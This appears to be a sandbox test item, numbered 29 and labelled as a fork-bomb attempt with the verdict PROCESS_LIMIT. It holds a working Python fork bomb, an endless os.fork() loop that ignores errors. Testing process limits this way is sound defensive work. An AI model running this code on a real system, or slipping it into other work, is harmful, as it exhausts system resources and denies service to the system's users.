# mypy: ignore-errors
# tries: a fork bomb (29)
# kind: script
# verdict: PROCESS_LIMIT
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
